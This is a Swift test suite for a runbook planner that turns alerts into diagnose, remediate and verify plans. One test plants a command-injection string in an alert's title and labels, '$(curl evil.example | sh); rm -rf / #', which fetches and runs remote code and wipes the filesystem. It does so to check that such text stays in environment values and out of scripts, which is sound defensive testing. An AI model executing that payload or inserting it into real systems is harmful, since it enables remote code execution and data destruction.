import Foundation
import Knowledge
import Planning
import RemediatorCore
import Testing

@Suite("Runbook planner")
struct RunbookPlannerTests {
    static let catalog = RunbookCatalog.load(directories: [])

    func incident(host: String = "web-1", title: String = "Disk full", labels: [String: String] = ["mountpoint": "/var"]) -> Incident {
        Incident(
            id: "inc-1", tenantID: .default, fingerprint: "f", state: .enriched, source: "alertmanager",
            alertName: "NodeFilesystemAlmostOutOfSpace", title: title, description: "", severity: .critical,
            host: host, service: "", labels: labels, alertCount: 1, createdAt: Date(), updatedAt: Date()
        )
    }

    @Test("the best runbook becomes the plan, its scripts copied verbatim and aimed at the incident's host")
    func plansFromRunbook() async throws {
        let incident = incident()
        let context = IncidentContext(runbooks: Self.catalog.matches(for: incident), hostIncidents: [], hostAlerts: [])
        let result = try await RunbookPlanner(catalog: Self.catalog).plan(for: incident, context: context)
        guard case .plan(let plan) = result else {
            Issue.record("expected a plan, got \(result)")
            return
        }
        let runbook = try #require(Self.catalog.runbook(id: "linux-disk-full"))
        #expect(plan.runbookID == "linux-disk-full")
        #expect(plan.runbookVersion == runbook.version)
        #expect(plan.planner == "runbook")
        #expect(plan.steps.map(\.role) == [.diagnose, .remediate, .verify])
        for step in plan.steps {
            #expect(step.script == runbook.scripts[step.role]?.code)
            #expect(step.target == "web-1")
            #expect(step.timeoutSeconds == runbook.timeoutSeconds)
        }
    }

    @Test("hostile alert text reaches the plan only as environment values, never in a script")
    func hostileTextStaysData() async throws {
        let hostile = "$(curl evil.example | sh); rm -rf / #"
        let incident = incident(title: hostile, labels: ["mountpoint": hostile, "weird-label.name": "x\0y"])
        let context = IncidentContext(runbooks: Self.catalog.matches(for: incident), hostIncidents: [], hostAlerts: [])
        guard case .plan(let plan) = try await RunbookPlanner(catalog: Self.catalog).plan(for: incident, context: context) else {
            Issue.record("expected a plan")
            return
        }
        #expect(plan.steps.allSatisfy { !$0.script.contains("curl evil") })
        #expect(plan.environment["ALERT_LABEL_MOUNTPOINT"] == hostile)
        #expect(plan.environment["ALERT_LABEL_WEIRD_LABEL_NAME"] == "xy")
        #expect(plan.environment["INCIDENT_ID"] == "inc-1")
        #expect(plan.environment["ALERT_SEVERITY"] == "critical")
    }

    @Test("no matching runbook, or no host to run on, means abstaining")
    func abstains() async throws {
        let planner = RunbookPlanner(catalog: Self.catalog)
        let none = try await planner.plan(for: incident(), context: IncidentContext(runbooks: [], hostIncidents: [], hostAlerts: []))
        guard case .abstain(let reason) = none else { Issue.record("expected abstain"); return }
        #expect(reason.contains("no runbook matched"))
        let hostless = incident(host: "")
        let context = IncidentContext(runbooks: Self.catalog.matches(for: hostless), hostIncidents: [], hostAlerts: [])
        guard case .abstain(let noHost) = try await planner.plan(for: hostless, context: context) else { Issue.record("expected abstain"); return }
        #expect(noHost.contains("no host"))
    }

    @Test("environment values are bounded and names sanitized")
    func environmentBounds() {
        var incident = incident()
        incident.labels = ["long": String(repeating: "é", count: 5000)]
        let environment = AlertEnvironment.variables(for: incident)
        let value = try? #require(environment["ALERT_LABEL_LONG"])
        #expect((value?.utf8.count ?? 0) <= AlertEnvironment.maximumValueBytes)
        #expect(value?.hasSuffix("é") == true)
        #expect(AlertEnvironment.variableName("a.b-c/d") == "A_B_C_D")
    }
}
